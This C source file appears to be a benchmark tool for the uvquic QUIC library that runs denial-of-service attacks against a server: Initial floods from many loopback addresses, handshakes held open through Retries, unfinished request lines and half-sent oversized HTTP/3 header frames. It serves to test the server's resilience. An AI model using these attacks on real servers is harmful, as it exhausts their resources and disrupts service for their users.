/*
 * attacker: hostile QUIC clients for bench/attacks.sh, built on the uvquic
 * library itself (its sans-I/O core over plain UDP sockets), so every
 * packet is a real, well-formed one. Each mode is one attack of issue 13;
 * the tool sends, holds what it opened for --hold seconds, and exits 0.
 *
 *   attacker --mode MODE --server HOST:PORT [--n N] [--sources S]
 *            [--hold SECONDS]
 *
 * Modes:
 *   initials  N first Initials (real ClientHellos, distinct connection
 *             IDs), each sent from one of S source addresses 127.0.1.1,
 *             127.0.1.2, ... (on Linux every 127/8 address is local, so no
 *             raw socket is needed to "spoof" them); replies are never
 *             read. What a spoofed-source Initial flood leaves the server.
 *   retry     N connections (ALPN h3) from one socket that see only the
 *             server's Retries: each is answered (the endpoint resends its
 *             Initial with the token) and nothing after it, so every
 *             handshake the server starts stays in flight.
 *   hq-lines  N hq-interop connections, each opening every stream the
 *             server allows and sending "GET /" without the line's end.
 *   h3-half   N h3 connections (a control stream with SETTINGS), each
 *             opening every request stream the server allows and sending
 *             half of a HEADERS frame: a 65,000-byte header field (over
 *             the default 16 KiB field-section limit) cut in the middle.
 *
 * Output, one line: "attacker: MODE: ..." with what was sent and held.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "uvquic/uvquic.h"

typedef enum mode { M_INITIALS, M_RETRY, M_HQ_LINES, M_H3_HALF } mode;

typedef struct attacker {
  mode m;
  int fd; /* the one socket (every mode but initials) */
  uvq_addr local, server;
  uvq_endpoint *ep;
  uvq_tls_ctx *tls;
  /* initials: the first datagram of each connection, as the endpoint
   * sent it (captured, never sent by the endpoint itself). */
  uint8_t (*captured)[1500];
  size_t *caplen;
  size_t ncaptured, capcap;
  /* counters */
  uint64_t datagrams_sent, retries_seen, established, streams, bytes;
} attacker;

static uvq_tstamp now_ns(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (uvq_tstamp)ts.tv_sec * UVQ_SECONDS + (uvq_tstamp)ts.tv_nsec;
}

static uint64_t wall_time(uvq_endpoint *ep, void *ud) {
  (void)ep;
  (void)ud;
  return (uint64_t)time(NULL);
}

static ssize_t send_cb(uvq_endpoint *ep, const uvq_send_batch *b, void *ud) {
  attacker *a = ud;
  size_t i;
  (void)ep;
  for (i = 0; i < b->count; i++) {
    const uint8_t *p = b->data + i * b->segment_size;
    size_t len = b->datalen - i * b->segment_size;
    if (len > b->segment_size) {
      len = b->segment_size;
    }
    if (a->m == M_INITIALS) {
      if (a->ncaptured < a->capcap) {
        memcpy(a->captured[a->ncaptured], p, len);
        a->caplen[a->ncaptured++] = len;
      }
      continue;
    }
    if (sendto(a->fd, p, len, 0, (const struct sockaddr *)&b->path->remote.ss,
               b->path->remote.len) < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        return (ssize_t)i;
      }
    } else {
      a->datagrams_sent++;
    }
  }
  return (ssize_t)b->count;
}

/* ---- what the connections do once established --------------------------- */

/* hq-interop: a request line that never ends. */
static const uint8_t HQ_PARTIAL[] = "GET /";

/* h3: a HEADERS frame (type 1) of 65012 bytes (a 4-byte varint): the
 * QPACK prefix (0, 0), one literal field line with a literal name "x-pad"
 * (0x25) and a 65000-byte value (0x7f, then 64873 as a 7-bit varint:
 * 0xe9 0xfa 0x03); only the frame header, the field's start and 32500 of
 * its bytes are sent. */
#define H3_VALUE_SENT 32500
static const uint8_t H3_HEAD[] = {0x01, 0x80, 0x00, 0xfd, 0xf4, 0x00,
                                  0x00, 0x25, 'x',  '-',  'p',  'a',
                                  'd',  0x7f, 0xe9, 0xfa, 0x03};
/* The client's control stream: type 0, an empty SETTINGS frame. */
static const uint8_t H3_CONTROL[] = {0x00, 0x04, 0x00};

static int on_established(uvq_conn *conn, void *ud) {
  attacker *a = ud;
  static uint8_t pad[H3_VALUE_SENT];
  int64_t sid;

  a->established++;
  if (a->m == M_H3_HALF && uvq_conn_open_stream(conn, 0, &sid, NULL) == 0 &&
      uvq_stream_write(conn, sid, H3_CONTROL, sizeof(H3_CONTROL), 0) > 0) {
    a->bytes += sizeof(H3_CONTROL);
  }
  memset(pad, 'a', sizeof(pad));
  /* Every stream the server allows (its limit ends the loop). */
  while (uvq_conn_open_stream(conn, 1, &sid, NULL) == 0) {
    ssize_t n;
    a->streams++;
    if (a->m == M_HQ_LINES) {
      n = uvq_stream_write(conn, sid, HQ_PARTIAL, sizeof(HQ_PARTIAL) - 1, 0);
      a->bytes += n > 0 ? (uint64_t)n : 0;
    } else {
      n = uvq_stream_write(conn, sid, H3_HEAD, sizeof(H3_HEAD), 0);
      a->bytes += n > 0 ? (uint64_t)n : 0;
      n = uvq_stream_write(conn, sid, pad, sizeof(pad), 0);
      a->bytes += n > 0 ? (uint64_t)n : 0;
    }
  }
  return 0;
}

static const uvq_app_callbacks callbacks = {
    .version = UVQ_APP_CALLBACKS_VERSION,
    .on_established = on_established,
};

/* ---- the loop -------------------------------------------------------------
 */

static int parse_hostport(const char *s, uvq_addr *a) {
  char host[64];
  const char *colon = strrchr(s, ':');
  struct sockaddr_in sa;

  if (colon == NULL || (size_t)(colon - s) >= sizeof(host)) {
    return -1;
  }
  memcpy(host, s, (size_t)(colon - s));
  host[colon - s] = '\0';
  memset(&sa, 0, sizeof(sa));
  sa.sin_family = AF_INET;
  sa.sin_port = htons((uint16_t)atoi(colon + 1));
  if (inet_pton(AF_INET, host, &sa.sin_addr) != 1) {
    return -1;
  }
  return uvq_addr_set(a, (struct sockaddr *)&sa, sizeof(sa));
}

static int bind_socket(uint32_t ip, uvq_addr *local) {
  struct sockaddr_in sa;
  socklen_t len = sizeof(sa);
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
  if (fd < 0) {
    return -1;
  }
  memset(&sa, 0, sizeof(sa));
  sa.sin_family = AF_INET;
  sa.sin_addr.s_addr = htonl(ip);
  if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0 ||
      getsockname(fd, (struct sockaddr *)&sa, &len) != 0) {
    close(fd);
    return -1;
  }
  if (local != NULL) {
    uvq_addr_set(local, (struct sockaddr *)&sa, len);
  }
  return fd;
}

/* Runs the endpoint on the socket until |until|. In retry mode only the
 * server's Retries (v1 long header type 3) reach the endpoint. */
static void run(attacker *a, uvq_tstamp until) {
  uint8_t buf[65536];
  for (;;) {
    uvq_tstamp now = now_ns(), exp = uvq_endpoint_next_expiry(a->ep);
    struct pollfd pfd = {a->fd, POLLIN, 0};
    int64_t wait_ms;
    if (now >= until) {
      return;
    }
    if (exp < until && exp > now) {
      wait_ms = (int64_t)((exp - now) / UVQ_MILLISECONDS) + 1;
    } else if (exp <= now) {
      wait_ms = 0;
    } else {
      wait_ms = (int64_t)((until - now) / UVQ_MILLISECONDS) + 1;
    }
    (void)poll(&pfd, 1, (int)wait_ms);
    for (;;) {
      struct sockaddr_storage from;
      socklen_t fromlen = sizeof(from);
      ssize_t n = recvfrom(a->fd, buf, sizeof(buf), 0, (struct sockaddr *)&from,
                           &fromlen);
      uvq_path path;
      if (n <= 0) {
        break;
      }
      if (a->m == M_RETRY) {
        if ((buf[0] & 0xf0) != 0xf0) {
          continue;
        }
        a->retries_seen++;
      }
      path.local = a->local;
      uvq_addr_set(&path.remote, (struct sockaddr *)&from, fromlen);
      uvq_endpoint_recv(a->ep, &path, 0, buf, (size_t)n, 0, now_ns());
    }
    now = now_ns();
    if (uvq_endpoint_next_expiry(a->ep) <= now) {
      uvq_endpoint_handle_expiry(a->ep, now);
    }
    uvq_endpoint_flush(a->ep, now);
  }
}

static void usage(FILE *f) {
  fprintf(f, "usage: attacker --mode initials|retry|hq-lines|h3-half "
             "--server HOST:PORT [--n N] [--sources S] [--hold SECONDS]\n");
}

int main(int argc, char **argv) {
  static const struct option opts[] = {
      {"mode", required_argument, NULL, 'm'},
      {"server", required_argument, NULL, 's'},
      {"n", required_argument, NULL, 'n'},
      {"sources", required_argument, NULL, 'S'},
      {"hold", required_argument, NULL, 'H'},
      {NULL, 0, NULL, 0}};
  static const char *const alpn_h3[] = {"h3"};
  static const char *const alpn_hq[] = {"hq-interop"};
  attacker a;
  uvq_tls_config tc;
  uvq_endpoint_config ec;
  uvq_settings st;
  const char *mstr = NULL, *server = NULL;
  size_t n = 100, sources = 50, i;
  double hold = 5;
  int opt;
  char err[256];

  memset(&a, 0, sizeof(a));
  while ((opt = getopt_long(argc, argv, "", opts, NULL)) != -1) {
    switch (opt) {
    case 'm':
      mstr = optarg;
      break;
    case 's':
      server = optarg;
      break;
    case 'n':
      n = (size_t)strtoul(optarg, NULL, 10);
      break;
    case 'S':
      sources = (size_t)strtoul(optarg, NULL, 10);
      break;
    case 'H':
      hold = strtod(optarg, NULL);
      break;
    default:
      usage(stderr);
      return 2;
    }
  }
  if (mstr == NULL || server == NULL || parse_hostport(server, &a.server) ||
      n == 0 || sources == 0 || sources > 250) {
    usage(stderr);
    return 2;
  }
  if (strcmp(mstr, "initials") == 0) {
    a.m = M_INITIALS;
  } else if (strcmp(mstr, "retry") == 0) {
    a.m = M_RETRY;
  } else if (strcmp(mstr, "hq-lines") == 0) {
    a.m = M_HQ_LINES;
  } else if (strcmp(mstr, "h3-half") == 0) {
    a.m = M_H3_HALF;
  } else {
    usage(stderr);
    return 2;
  }

  uvq_tls_config_default(&tc);
  tc.insecure = 1;
  tc.alpn = a.m == M_HQ_LINES ? alpn_hq : alpn_h3;
  tc.alpnlen = 1;
  if (uvq_tls_ctx_new(&a.tls, 0, &tc, NULL, err, sizeof(err)) != 0) {
    fprintf(stderr, "attacker: TLS: %s\n", err);
    return 1;
  }
  uvq_settings_default(&st);
  st.max_connections = 0;
  st.handshake_timeout = (uint64_t)((hold + 5) * (double)UVQ_SECONDS);
  st.idle_timeout = st.handshake_timeout;
  st.keep_alive = 2 * UVQ_SECONDS;
  uvq_endpoint_config_default(&ec);
  ec.settings = &st;
  ec.tls = a.tls;
  ec.user_data = &a;
  ec.send = send_cb;
  ec.wall_time = wall_time;
  if (uvq_endpoint_new(&a.ep, &ec) != 0) {
    fprintf(stderr, "attacker: endpoint\n");
    return 1;
  }
  if (a.m == M_INITIALS) {
    a.captured = malloc(n * sizeof(*a.captured));
    a.caplen = malloc(n * sizeof(*a.caplen));
    a.capcap = n;
    if (a.captured == NULL || a.caplen == NULL) {
      return 1;
    }
    a.fd = -1;
    uvq_addr_set(&a.local, (const struct sockaddr *)&a.server.ss, a.server.len);
  } else {
    a.fd = bind_socket(INADDR_LOOPBACK, &a.local);
    if (a.fd < 0) {
      perror("attacker: socket");
      return 1;
    }
  }

  for (i = 0; i < n; i++) {
    uvq_connect_params p;
    uvq_path path;
    uvq_conn *conn;
    size_t before = a.ncaptured;
    memset(&p, 0, sizeof(p));
    p.version = UVQ_CONNECT_PARAMS_VERSION;
    path.local = a.local;
    path.remote = a.server;
    p.path = &path;
    p.server_name = "localhost";
    p.callbacks = &callbacks;
    p.user_data = &a;
    if (uvq_endpoint_connect(a.ep, &p, now_ns(), &conn) != 0) {
      fprintf(stderr, "attacker: connect %zu failed\n", i);
      break;
    }
    uvq_endpoint_flush(a.ep, now_ns());
    if (a.m == M_INITIALS) {
      /* Keep only this connection's first datagram. */
      a.ncaptured = before + (a.ncaptured > before ? 1 : 0);
    }
  }

  if (a.m == M_INITIALS) {
    int *fds = calloc(sources, sizeof(*fds));
    size_t s;
    if (fds == NULL) {
      return 1;
    }
    for (s = 0; s < sources; s++) {
      fds[s] = bind_socket(0x7f000101u + (uint32_t)s, NULL);
      if (fds[s] < 0) {
        perror("attacker: bind 127.0.1.x");
        return 1;
      }
    }
    for (i = 0; i < a.ncaptured; i++) {
      if (sendto(fds[i % sources], a.captured[i], a.caplen[i], 0,
                 (const struct sockaddr *)&a.server.ss, a.server.len) > 0) {
        a.datagrams_sent++;
      }
      if (i % 64 == 63) {
        usleep(1000); /* ~64k Initials/s at most: no kernel drops */
      }
    }
    printf("attacker: initials: %" PRIu64 " Initials from %zu addresses\n",
           a.datagrams_sent, sources);
    fflush(stdout);
    usleep((useconds_t)(hold * 1e6));
    for (s = 0; s < sources; s++) {
      close(fds[s]);
    }
    free(fds);
  } else {
    run(&a, now_ns() + (uvq_tstamp)(hold * (double)UVQ_SECONDS));
    printf("attacker: %s: %zu connections, %" PRIu64 " established, %" PRIu64
           " Retries answered, %" PRIu64 " streams, %" PRIu64
           " stream bytes, %" PRIu64 " datagrams sent\n",
           mstr, n, a.established, a.retries_seen, a.streams, a.bytes,
           a.datagrams_sent);
    close(a.fd);
  }
  uvq_endpoint_del(a.ep);
  uvq_tls_ctx_del(a.tls);
  free(a.captured);
  free(a.caplen);
  return 0;
}
